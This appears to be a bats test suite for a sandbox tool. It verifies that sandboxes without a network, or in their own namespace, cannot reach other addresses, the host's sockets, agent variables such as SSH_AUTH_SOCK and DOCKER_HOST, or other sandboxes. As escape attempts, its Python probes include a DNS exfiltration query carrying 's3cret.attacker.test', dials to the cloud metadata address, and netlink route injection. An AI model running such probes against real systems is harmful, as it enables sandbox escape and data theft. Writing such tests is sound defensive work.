#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
#
# Ways out of a sandbox that has no network, and past the namespace of one that has: to the machine, to other sandboxes, to
# sockets of the host. What goes through the guard itself is tried in tests/integration; README lists both.
# shellcheck disable=SC2016,SC2030,SC2031,SC2154

# shellcheck source=lib.bash
. "$BATS_TEST_DIRNAME/lib.bash"
# shellcheck source=../integration/lib.bash
. "$tests/integration/lib.bash"
# shellcheck source=../integration/internet.bash
. "$tests/integration/internet.bash"

setup() {
	NET=$BATS_FILE_TMPDIR/net
	W=$BATS_TEST_TMPDIR/w
	children=()
	options=()
	mkdir "$W" && cd "$W" || return
	quiet
	: >"$NET/datagrams"
}

teardown() {
	local pid
	there "$WARD" stop --force >/dev/null 2>&1 || true
	for pid in "${children[@]}"; do
		kill "$pid" 2>/dev/null || continue
		timeout 10 tail --pid="$pid" -f /dev/null || kill -9 "$pid"
		wait "$pid" 2>/dev/null || true
	done
}

# inside COMMAND...: of a machine that is in the made-up internet
inside() {
	there "$WARD" "${enter[@]}" --set 'network.dns=["93.184.216.53"]' "${options[@]}" -- "$@"
}

# program NAME: from standard input; python, in the workspace
program() {
	cat >"$1"
}

heard() { # how many connections, datagrams and questions, of anybody
	cat "$NET/connections" "$NET/service" "$NET/datagrams" "$NET/names" | wc -l
}

@test "without a network nothing is reached, by any address, port or protocol (network namespace)" {
	program reach <<-'END'
		import concurrent.futures, socket
		hosts = ["127.0.0.1", "::1", "93.184.216.1", "2606:2800:220:1::1", "93.184.216.34", "2606:2800:220:1::34", "93.184.216.53", "10.0.2.2",
		    "172.17.0.1", "10.1.2.3", "169.254.169.254", "fd00:ec2::254", "fe80::1%lo", "ff02::1%lo", "example.test", "localhost"]
		def dial(host, port):
		    with socket.create_connection((host, port), 1) as s: s.sendall(b"GET / HTTP/1.0\r\n\r\n"); s.recv(1)
		def send(host, port):
		    to = socket.getaddrinfo(host, port, type=socket.SOCK_DGRAM)[0]
		    q = b"\x12\x34\x01\0\0\x01" + b"\0" * 6 + b"\x06s3cret\x08attacker\x04test\0\0\x01\0\x01"
		    socket.socket(to[0], to[1]).sendto(q if port == 53 else b"out", to[4])
		with concurrent.futures.ThreadPoolExecutor(16) as pool:
		    for host in hosts:
		        for port in 22, 53, 80, 443, 7777, 8080, 9000: pool.submit(dial, host, port)
		        for port in 53, 9999: pool.submit(send, host, port)
		open("ran", "w")
	END
	RES_OPTIONS='timeout:1 attempts:1' there python3 reach
	[ "$(wc -l <"$NET/connections")" -ge 12 ] || void 'nobody is there to be reached'
	grep -q out "$NET/datagrams" && grep -q s3cret "$NET/names" && [ -s "$NET/service" ] || void 'nobody hears of it'
	for options in '' '--net none' '--set network.allow=[]'; do
		# shellcheck disable=SC2206
		options=($options)
		rm -f ran
		quiet
		: >"$NET/datagrams"
		ran python3 reach
		[ -e ran ]
		[ "$(heard)" = 0 ]
	done
}

@test "neither addresses nor routes nor devices can be added to the network, and there is one device (no capabilities)" {
	program change <<-'END'
		import fcntl, os, socket, struct
		def request(kind, body, flags=0x605):
		    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
		        s.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
		        return struct.unpack("=i", s.recv(4096)[16:20])[0]
		def attribute(kind, data): return struct.pack("=HH", 4 + len(data), kind) + data + b"\0" * (-len(data) % 4)
		lo = socket.if_nametoindex("lo")
		address = struct.pack("=BBBBI", 2, 32, 0, 0, lo) + attribute(2, b"\x0a\x09\x09\x09")
		route = struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 253, 1, 0) + attribute(1, b"\x0a\x09\x09\x0a") + attribute(4, struct.pack("=I", lo))
		link = struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0) + attribute(3, b"added\0") + attribute(18, attribute(1, b"dummy"))
		up = struct.pack("=BBHiII", 0, 0, 0, lo, 0, 1)
		for name, kind, body in ("link-down", 16, up), ("address", 20, address), ("route", 24, route), ("link", 16, link):
		    try: print(name, request(kind, body, 5 if name == "link-down" else 0x605))
		    except OSError as e: print(name, -e.errno)
		print(*sorted(name for _, name in socket.if_nameindex()))
	END
	run -0 unshare -Urn bash -c 'ip link set lo up; python3 change'
	[ "$(grep -cx 'link-down 0\|address 0' <<<"$output")" = 2 ] || void "the messages are wrong: $output"
	for options in '--net none' '--net full'; do
		# shellcheck disable=SC2206
		options=($options)
		run -0 --separate-stderr inside python3 change
		[ "${lines[*]}" = 'link-down -1 address -1 route -1 link -1 lo' ] || { echo "$output" && false; }
	done
	# Nothing that a device would believe a router with can be written.
	run ! inside sh -c 'for f in /proc/sys/net/ipv6/conf/lo/accept_ra /proc/sys/net/ipv4/ip_forward; do cat $f >v; cat v >$f && exit 0; done; exit 1'
}

@test "abstract sockets of the host are not there (network namespace)" {
	local name=canary-$RANDOM$RANDOM
	program listen <<-'END'
		import socket, sys
		s = socket.socket(socket.AF_UNIX)
		s.bind("\0" + sys.argv[1])
		s.listen()
		print("listening", flush=True)
		while s.accept(): print("accepted", flush=True)
	END
	program dial <<-'END'
		import socket, sys
		s = socket.socket(socket.AF_UNIX)
		try: s.connect("\0" + sys.argv[1]); print("connected")
		except OSError as e: print(e.errno)
	END
	there timeout 100 python3 listen "$name" >listened 3>&- &
	children+=($!)
	for ((n = 0; n < 200; n++)); do
		! grep -q listening listened || break
		sleep 0.05
	done
	for options in '--net none' '--net full'; do
		# shellcheck disable=SC2206
		options=($options)
		run -0 --separate-stderr inside python3 dial "$name"
		[ "$output" = 111 ]
	done
	run ! grep -q accepted listened
	run -0 there python3 dial "$name"
	[ "$output" = connected ] || void 'nobody listens'
	there "$WARD" stop --force >/dev/null 2>&1 || true
}

@test "no socket of the host can be found, and no variable speaks of one (own root, cleared environment)" {
	mkdir "$BATS_TEST_TMPDIR/run"
	export SSH_AUTH_SOCK=$BATS_TEST_TMPDIR/run/agent DBUS_SESSION_BUS_ADDRESS=unix:path=$BATS_TEST_TMPDIR/run/bus
	export DISPLAY=:99 WAYLAND_DISPLAY=wayland-9 DOCKER_HOST=unix://$BATS_TEST_TMPDIR/run/docker.sock XDG_RUNTIME_DIR
	python3 -c 'import socket, sys; socket.socket(socket.AF_UNIX).bind(sys.argv[1])' "$SSH_AUTH_SOCK"
	words='SSH_AUTH_SOCK|DBUS_|DISPLAY|DOCKER_HOST|XDG_RUNTIME'
	[ "$(env | grep -cE "$words")" = 6 ] && [ -n "$(find "$BATS_TEST_TMPDIR/run" -type s)" ] || void 'there is nothing to find'
	ran sh -c 'env | grep -E "$1" >/workspace/got; find / -xdev -type s >>/workspace/got 2>/dev/null
		ls -d /run/* /var/run/* /tmp/.X11-unix /run/user >>/workspace/got 2>/dev/null; touch /workspace/ran' - "$words"
	[ -e ran ]
	cat got
	[ ! -s got ]
}

@test "two sandboxes do not reach each other, by address, broadcast or group (a network namespace each)" {
	mkdir listener
	cp "$PAYLOAD" .
	program listener/serve <<-'END'
		import select, socket
		tcp = [socket.create_server(("0.0.0.0", 9009)), socket.create_server(("::", 9009), family=socket.AF_INET6)]
		udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
		udp.bind(("0.0.0.0", 9009))
		print("ready", flush=True)
		while True:
		    for s in select.select(tcp + [udp], [], [])[0]:
		        data = s.recv(100) if s is udp else s.accept()[0].recv(100)
		        print("heard", data.decode(), flush=True)
		        if data == b"end": raise SystemExit
	END
	program reach <<-'END'
		import socket, sys
		for host in ("10.0.2.15", "fd00:5b::15", "127.0.0.1", "::1", "10.0.2.255", "255.255.255.255", "224.0.0.1", "ff02::1%lo", "0.0.0.0", "10.0.2.2"):
		    try:
		        with socket.create_connection((host, 9009), 1) as s: s.sendall(sys.argv[1].encode())
		    except OSError: pass
		    try:
		        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
		        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
		        s.sendto(sys.argv[1].encode(), socket.getaddrinfo(host, 9009)[0][4])
		    except OSError: pass
		open("ran", "w")
	END
	cp reach listener/reach
	(cd listener && there "$WARD" run --net full -- sh -c 'python3 serve & serve=$!
		until [ -e go ]; do sleep 0.05; done; python3 reach own; python3 reach end; wait $serve' >"$W/listened" 2>&1 3>&-) &
	children+=($!)
	for ((n = 0; n < 400; n++)); do
		! grep -q ready listened || break
		sleep 0.05
	done
	options=(--net full)
	ran python3 reach stranger
	[ -e ran ]
	touch listener/go
	for ((n = 0; n < 400; n++)); do
		! grep -q 'heard end' listened || break
		sleep 0.05
	done
	grep -q 'heard own' listened || void 'the listener hears nobody'
	run ! grep stranger listened
}
